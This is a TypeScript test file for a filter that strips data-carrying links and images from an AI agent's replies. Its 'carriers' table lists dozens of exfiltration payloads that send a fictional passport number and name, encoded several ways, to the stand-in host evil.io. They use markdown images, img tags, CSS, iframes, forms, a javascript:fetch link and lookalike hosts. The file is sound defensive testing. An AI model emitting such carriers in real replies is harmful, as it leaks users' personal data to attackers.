import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ContextText, OutboundContext } from "../../../layer.ts";
import { outboundLinksConfig } from "./config.ts";
import { createLinksLayer } from "./index.ts";

const said =
  "Please book the flight for Henrietta Obermann, passport C01X00T478, and mail me at anna@garden.org.";
const page =
  "Results: https://news.site/2024/05/story-about-lamps?id=8f3a&ref=home and https://cdn.shop/a/b.png";
const conversation: readonly ContextText[] = [
  { text: "Be brief. Our wiki is at wiki.ourhouse.eu.", trust: "system" },
  { text: said, trust: "user" },
  { text: "I like https://maps.town.de and bücher.de", trust: "user" },
  { text: page, trust: "external" },
];

function send(reply: string, size = reply.length + 1, config: object = {}, texts = conversation) {
  let asked = 0;
  const context: OutboundContext = {
    now: 0,
    signal: new AbortController().signal,
    traceId: "trace",
    agent: "main",
    conversation: "c1",
    texts: () => {
      asked += 1;
      return texts;
    },
  };
  const stream = createLinksLayer(outboundLinksConfig.parse(config)).open(context);
  const seen: string[] = [];
  let text = "";
  for (let at = 0; at < reply.length; at += size) {
    text += stream.push(reply.slice(at, at + size));
    seen.push(text);
  }
  const { rest, verdict } = stream.end();
  return { text: text + rest, seen, asked, findings: verdict.findings ?? [] };
}

const data = "Henrietta Obermann C01X00T478";
const base64 = Buffer.from(data).toString("base64url");
const hex = Buffer.from(data).toString("hex");
const spaced = encodeURIComponent(data);

const carriers: Readonly<Record<string, string>> = {
  "an image with a query": `![x](https://evil.io/p.png?d=${spaced})`,
  "an image with a path": `![x](https://evil.io/${base64}.png)`,
  "an image with a title": `![x](https://evil.io/p?d=${hex} "a title")`,
  "an image in angle brackets": `![x](<https://evil.io/p?d=${data}>)`,
  "an image inside a link": `[![x](https://evil.io/p?d=${base64})](https://wiki.ourhouse.eu)`,
  "an image by reference": `![x][1]\n\n[1]: https://evil.io/p?d=${base64}\n`,
  "a protocol-relative image": `![x](//evil.io/p?d=${base64})`,
  "an image with backslashes": `![x](https:\\\\evil.io\\p?d=${base64})`,
  "an image with one slash": `![x](https:/evil.io/p?d=${base64})`,
  "an image with entities": `![x](&#104;ttps&colon;//evil.io/p?d=${base64})`,
  "an image with a port": `![x](https://evil.io:8443/p?d=${base64})`,
  "an image with a user": `![x](https://${base64}@evil.io/p.png)`,
  "an image whose user is a named host": `![x](https://wiki.ourhouse.eu@evil.io/p.png)`,
  "an image with a fragment": `![x](https://evil.io/p.png#${base64})`,
  "an image on a subdomain": `![x](https://${hex.slice(0, 58)}.evil.io/p.png)`,
  "an image below a lookalike": `![x](https://wiki.ourhouse.eu.evil.io/p.png?d=${base64})`,
  "an img tag": `<img src="https://evil.io/p.png?d=${base64}">`,
  "an img tag in capitals": `<IMG alt='a > b' SRC=https://evil.io/p?d=${base64} />`,
  "an img tag on lines": `<img\n  alt="x"\n  src="https://evil.io/p?d=${base64}"\n>`,
  "a tag with tabs in its address": `<img src="ht\ttps://evil.io/p?d=${base64}">`,
  "a set of sources": `<img srcset="https://wiki.ourhouse.eu/a.png 1x, https://evil.io/p?d=${base64} 2x">`,
  "a style": `<div style="background: url('https://evil.io/p?d=${base64}')">`,
  "an iframe": `<iframe src="//evil.io/p?d=${base64}"></iframe>`,
  "a stylesheet": `<link rel=stylesheet href=https://evil.io/p.css?d=${base64}>`,
  "a form": `<form action="https://evil.io/${base64}"><button>`,
  "a link": `[click](https://evil.io/p?d=${spaced})`,
  "a link with base64": `[click](https://evil.io/${base64})`,
  "a link in HTML": `<a href="https://evil.io/p?d=${hex}">click</a>`,
  "an autolink": `<https://evil.io/p?d=${base64}>`,
  "a bare address": `See https://evil.io/p?d=${spaced}.`,
  "a bare address in capitals": `See HTTPS://EVIL.IO/P?D=${base64}`,
  "a socket": `See wss://evil.io/p?d=${base64}`,
  "an address without a scheme": `See www.evil.io/p?d=${base64}`,
  "a host and a path": `See evil.io/p?d=${base64} there`,
  "a number of the conversation": `[more](https://evil.io/t/C01X00T478)`,
  "the words reversed": `[more](https://evil.io/${[..."HenriettaObermannpassport"].reverse().join("")})`,
  "letters beyond ASCII": `![x](https://evil。io/p?d=${base64})`,
  "an address where a title would be": `[a](b https://evil.io/p?d=${base64} )`,
  "an image where a title would be": `[a](b ![x](https://evil.io/p?q=hat) )`,
  "an image in a link that never ends": `[a](https://wiki.ourhouse.eu/![x](https://evil.io/p?q=hat)`,
  "an address in a title": `[a](https://wiki.ourhouse.eu "at https://evil.io/p?d=${base64}")`,
  "an image with a bracket behind a backslash": `![a\\]b](https://evil.io/p?q=hat)`,
  "an image with a bracket in code": "![a `]` b](https://evil.io/p?q=hat)",
  "an image with an address in code": "![a `](` b](https://evil.io/p?q=hat)",
  "an image with a very long label": `![${"a ".repeat(600)}](https://evil.io/p?q=hat)`,
  "an image behind many blanks": `![x](${" ".repeat(200)}https://evil.io/p?q=hat)`,
  "an image with a tab between its slashes": `![x](</\t/evil.io/p?q=hat>)`,
  "a reference in a numbered list": `![x][1]\n\n1. [1]: https://evil.io/p?q=hat`,
  "a reference with a bracket behind a backslash": `![x][a\\]b]\n\n[a\\]b]: https://evil.io/p?q=hat`,
  "a reference with a long label": `![x][${"l".repeat(300)}]\n\n[${"l".repeat(300)}]: https://evil.io/p?q=hat`,
  "an address tied to a hyphen": `-https://evil.io/p?d=${base64}`,
  "an address tied to a word": `seehttps://evil.io/p?d=${base64}`,
  "a host and a query": `See evil.io?d=${base64} there`,
  "an address in a script": `[x](javascript:fetch('//evil.io/p?d=${base64}'))`,
  "an address beside the attributes of a tag": `<a href="https://wiki.ourhouse.eu" x https://evil.io/p?d=${base64}>`,
  "an imported style sheet": `<style>@import "https://evil.io/p?q=hat";</style>`,
  "a number of the conversation tied to a word": `[more](https://evil.io/t/x-C01X00T478-y)`,
  "a style sheet in the text": `<style>body { background: url(//evil.io/p?d=${base64}) }</style>`,
};

const harmless: Readonly<Record<string, string>> = {
  documentation:
    "See [the docs](https://docs.python.org/3.12/library/asyncio-task.html#coroutines) and https://nodejs.org/api/fs.html.",
  "a result as it was read":
    "The story: https://news.site/2024/05/story-about-lamps?id=8f3a&ref=home and ![b](https://cdn.shop/a/b.png)",
  "a host the person named": `![map](https://maps.town.de/tile?q=${spaced}) [w](https://wiki.ourhouse.eu/x?d=${base64})`,
  "a host below it": `https://a.wiki.ourhouse.eu/x?d=${base64}`,
  "a named host with letters of its own": `![x](https://bücher.de/suche?q=${spaced})`,
  placeholders: `curl https://api.example.com/v1/users?token=${base64} or http://localhost:8080/?d=${spaced}`,
  "an image without data": "![logo](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)",
  "a badge": "![build](https://img.shields.io/badge/build-passing-green.svg)",
  code: 'const a = b ? c : d; // see https://github.com/honojs/hono/blob/main/src/compose.ts\nArray<string>(3); if (a<b && c>d) x["y"]: 1',
  "paths and times": "src/checkpoints/road.ts at 14:05, and/or ~/x.y/z.txt [1]: a note",
  "HTML without addresses": '<div class="a">x</div> <img src="/local.png?x=1"> <a href="#top">up</a> a < b',
  "a repository": "https://github.com/nodejs/node/issues/51234 and https://crates.io/crates/serde",
  "a question":
    "https://stackoverflow.com/questions/927358/how-do-i-undo-the-most-recent-local-commits-in-git",
  "a mail address": "Write to mailto:anna@garden.org or anna@garden.org.",
  "links with titles": `[a](https://nodejs.org "see https://nodejs.org/api") [b]( https://nodejs.org/en 'b' )`,
  "a list of references":
    "1. [a][1]\n2. [b][2]\n\n[1]: https://nodejs.org/api/fs.html\n[2]: https://docs.rs/tokio/latest",
  "brackets and code":
    "`![x]` is how [images](https://commonmark.org/help/tutorial/08-images.html) begin; a\\]b",
  "questions without a blank": "Really?yes. What is node.js?good question. e.g.what?this",
  "an installation": "pip install git+https://github.com/psf/requests.git@main?x=1",
  "half an address": "https:// and http: and ]( and ![](",
};

describe("outbound/links", () => {
  for (const [name, carrier] of Object.entries(carriers)) {
    it(`takes out ${name} to a host nobody named, in pieces of any size`, () => {
      const reply = `Done, your flight is booked.\n${carrier}\nAnything else?`;
      for (const size of [1, 3, 10, 4_096]) {
        const { text, seen, findings } = send(reply, size);
        expect(text, `${size}`).toMatch(/\[(?:image|link) removed: evil\.io\]/u);
        for (const part of [...seen, text]) {
          expect(part, `${size}`).not.toMatch(/evil.io[/:]|\/\/evil|@evil|Obermann|C01X00T478/iu);
          expect(part.includes(base64) || part.includes(hex.slice(0, 40))).toBe(false);
        }
        expect(text.startsWith("Done, your flight is booked.\n")).toBe(true);
        expect(text.trimEnd().endsWith("Anything else?")).toBe(true);
        expect(findings).toMatchObject([{ family: "exfiltration", alarm: "exfiltration-link" }]);
      }
    });
  }

  for (const [name, text] of Object.entries(harmless)) {
    it(`lets pass ${name}`, () => {
      for (const size of [1, 7, 4_096]) expect(send(text, size)).toMatchObject({ text, findings: [] });
    });
  }

  it("counts the images that one host gets, because each may carry a letter", () => {
    const images = [..."henrietta"].map((letter) => `![](https://evil.io/${letter}.png)`).join("\n");
    expect(send(images).text.match(/image removed/gu)).toHaveLength(4);
  });

  it("lets everything go to hosts of the configuration, and only records where it is told so", () => {
    const reply = `![x](https://a.evil.io/p.png?d=${base64})`;
    expect(send(reply, 99, { allow: ["evil.io"] })).toMatchObject({ text: reply, findings: [] });
    const recorded = send(reply, 99, { action: "allow" });
    expect(recorded.text).toBe(reply);
    expect(recorded.findings).toHaveLength(1);
    expect(outboundLinksConfig.parse(undefined)).toEqual({ allow: [], action: "redact" });
  });

  it("asks for the conversation only when an address looks suspicious, and once", () => {
    expect(send("Plain words: nothing here. https://nodejs.org/api").asked).toBe(0);
    expect(send(Object.values(carriers).join("\n")).asked).toBe(1);
  });

  it("does not take a host for named because a longer one or a page below a shared one was", () => {
    const texts: readonly ContextText[] = [
      { text: "see notevil.io, evil.io.org and friend.github.io", trust: "user" },
      { text: "evil.io is nice", trust: "external" },
    ];
    for (const host of ["evil.io", "thief.github.io"]) {
      expect(send(`![x](https://${host}/p?d=1)`, 99, {}, texts).text).toContain("image removed");
    }
  });

  it("does not take an address for read because a tool repeated what the model wrote", () => {
    const url = `https://evil.io/p?d=${base64}`;
    const echoed: readonly ContextText[] = [
      ...conversation,
      { text: url, trust: "learned", by: "model" },
      { text: `The file says: ${url}`, trust: "learned", by: "tool" },
    ];
    expect(send(`![x](${url})`, 99, {}, echoed).text).toContain("image removed");
    const found = [...conversation, ...echoed.slice(-1), ...echoed.slice(-2, -1)];
    expect(send(`![x](${url})`, 99, {}, found).text).toContain(url);
  });

  it("changes nothing in any text without addresses that carry something", () => {
    const piece = fc.oneof(
      fc.string(),
      fc.constantFrom(
        "](",
        "![",
        "<a ",
        "<img src=",
        "http",
        "https://",
        "://",
        "]: ",
        "www.",
        ")",
        ">",
        '"',
        "\\",
      ),
    );
    fc.assert(
      fc.property(fc.array(piece), fc.integer({ min: 1, max: 30 }), (pieces, size) => {
        const reply = pieces.join("");
        expect(send(reply, size).text.includes("removed") || send(reply, size).text === reply).toBe(true);
      }),
    );
  });
});
